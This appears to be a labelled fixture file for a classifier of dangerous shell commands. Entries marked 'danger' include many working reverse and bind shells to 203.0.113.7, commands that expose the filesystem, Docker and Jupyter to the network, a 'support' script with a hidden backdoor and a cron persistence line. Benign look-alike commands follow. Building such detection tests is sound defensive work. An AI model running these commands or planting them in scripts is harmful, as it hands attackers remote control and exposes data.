### bash-reverse: a shell for someone else
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
#^ danger

### bash-reverse-fd: the same with a descriptor
exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read -r l; do $l 2>&5 >&5; done
#^ danger

### nc-exec: nc hands over a shell
nc -e /bin/sh 203.0.113.7 4444
#^ danger

### ncat-listen: a shell for whoever comes
ncat -lvnp 4444 --exec /bin/bash
#^ danger

### fifo-nc: the same without -e
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
#^ danger

### socat-listen: another tool
socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr
#^ danger

### socat-reverse: the other direction
socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.7:4444
#^ danger

### python-reverse: an interpreter connects and forks a shell
python3 -c 'import socket,os,pty;s=socket.create_connection(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
#^ danger

### perl-reverse: another interpreter
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i")'
#^ danger

### telnet-pair: an old pair of pipes
telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445
#^ danger

### openssl-reverse: the same, encrypted
mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s
#^ danger

### awk-reverse: awk's own network
gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.7/4444"; while ((s |& getline c) > 0) while ((c | getline l) > 0) print l |& s }'
#^ danger

### serve-home: the home for everyone on the network
cd ~ && python3 -m http.server 8000 --bind 0.0.0.0
#^ danger

### serve-root: the whole machine
python3 -m http.server --directory / 8080
#^ danger

### php-root: another server
php -S 0.0.0.0:8000 -t /
#^ danger

### redis-open: a store without a lock
redis-server --bind 0.0.0.0 --protected-mode no
#^ danger|caution

### notebook-open: code for whoever asks
jupyter notebook --ip=0.0.0.0 --allow-root --NotebookApp.token='' --NotebookApp.password=''
#^ danger

### dockerd-open: root for whoever asks
dockerd -H tcp://0.0.0.0:2375
#^ danger

### tunnel-back: the machine's door on another machine
ssh -f -N -R 0.0.0.0:2222:localhost:22 relay@203.0.113.7
#^ danger|caution

### ngrok-ssh: the same by a service
ngrok tcp 22
#^ danger|caution

### xhost-open: the screen for everyone
xhost +
#^ danger|caution

### host-key-off: who answers is not checked
ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@web1 uptime
#^ danger|caution

### nfs-open: a disk for everyone, as root
echo '/srv *(rw,no_root_squash)' >> /etc/exports
#^ danger|caution

### kubectl-proxy-open: the cluster for everyone
kubectl proxy --address=0.0.0.0 --accept-hosts='.*'
#^ danger

### support-shell: a "support" script with a way in
#!/bin/bash
# Collects facts for support.
HOST=203.0.113.7
PORT=${PORT:-4444}
uname -a
df -h
nohup bash -c "bash -i >& /dev/tcp/$HOST/$PORT 0>&1" >/dev/null 2>&1 &
#^ danger
echo "thank you"

### cron-shell: a shell that comes again each hour
#!/bin/sh
echo '0 * * * * /bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"' | crontab -
#^ danger

### nc-variable: the pieces stand above
#!/bin/sh
tool=nc
shell=/bin/sh
$tool -l -p 9999 -e $shell
#^ danger

### wait-for-port: only whether a door is open
#!/bin/bash
until (exec 3<>/dev/tcp/db/5432) 2>/dev/null; do
    echo "waiting for db"
    sleep 1
done

### http-probe: a request by hand
#!/bin/bash
exec 3<>/dev/tcp/localhost/8080
printf 'GET /healthz HTTP/1.0\r\n\r\n' >&3
cat <&3
exec 3>&-

### nc-probe: the same with nc
nc -zv -w 3 db.internal 5432 && echo open

### file-by-nc: a file received on the own network
nc -l -p 9000 > incoming.tar

### serve-local: only for this machine
python3 -m http.server 8000 --bind 127.0.0.1 --directory ./site

### tunnel-forward: a remote database on this machine
ssh -N -L 127.0.0.1:5433:db.internal:5432 bastion.example.org

### socks: a proxy for this machine only
ssh -D 127.0.0.1:1080 -N bastion.example.org

### redis-local: a store for this machine
redis-server --bind 127.0.0.1 --port 6380 --save '' --daemonize yes

### dev-servers: a development server
#!/bin/bash
set -m
npm run dev -- --host 127.0.0.1 --port 5173 &
docker run --rm -p 127.0.0.1:5432:5432 -e POSTGRES_PASSWORD postgres:16 &
wait

### net-facts: only asked
#!/bin/sh
ss -tlnp
ip -br addr
curl -sI https://example.org | head -1
dig +short example.org
nmap -sn 192.168.1.0/24

### fifo-own: a pipe of one's own
#!/bin/bash
set -e
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
mkfifo "$dir/log"
sed 's/^/[build] /' < "$dir/log" &
make > "$dir/log" 2>&1
wait

### socat-local: a serial line in a terminal
socat -d -d pty,raw,echo=0,link=./ttyA pty,raw,echo=0,link=./ttyB

### words-network: the words as data
#!/bin/sh
# bash -i >& /dev/tcp/203.0.113.7/4444 is what to look for.
grep -rnF '/dev/tcp/' /etc/cron.d || true
echo "nc -e /bin/sh is blocked by policy"

### host-key-known: the key is known beforehand
ssh -o UserKnownHostsFile=./deploy/known_hosts -o StrictHostKeyChecking=yes deploy@web1 ./restart

### curl-local: a service of this machine
curl -fsS http://localhost:8080/metrics | grep '^http_requests_total'

### port-used: who holds a door
lsof -iTCP:8080 -sTCP:LISTEN; fuser 8080/tcp; netstat -tlnp

### ssh-usual: work on another machine
#!/bin/bash
set -euo pipefail
for host in web1 web2; do
    ssh -o BatchMode=yes -o ConnectTimeout=5 "$host" 'uptime; df -h /'
    scp -q ./motd "$host:/tmp/motd"
done

### ssh-shell: a person's own shell there
ssh -t web1 'cd /srv/shop && exec bash -l'

### vpn-up: a tunnel by its tool
sudo wg-quick up wg0 && wg show && sudo wg-quick down wg0

### telnet-smtp: a greeting read
printf 'QUIT\r\n' | nc -w 3 mail.example.org 25

### log-follow-udp: lines to the log machine
tail -F app.log | while read -r line; do printf '%s\n' "$line" > /dev/udp/127.0.0.1/5140; done

### socat-proxy: a local door to a local socket
socat TCP-LISTEN:8081,bind=127.0.0.1,fork UNIX-CONNECT:/run/app.sock

### nginx-conf: a server for the world, as servers are
#!/bin/bash
cat > app.conf <<'EOF'
listen 0.0.0.0:443 ssl;
EOF
gunicorn --bind 127.0.0.1:8000 app:main &
nginx -c "$PWD/app.conf"

### iperf: a measurement
iperf3 -s -1 -p 5201 & iperf3 -c 127.0.0.1 -p 5201 -t 5

### tar-over-ssh: a folder to another machine
tar -cz ./site | ssh web1 'tar -xz -C /srv/site'
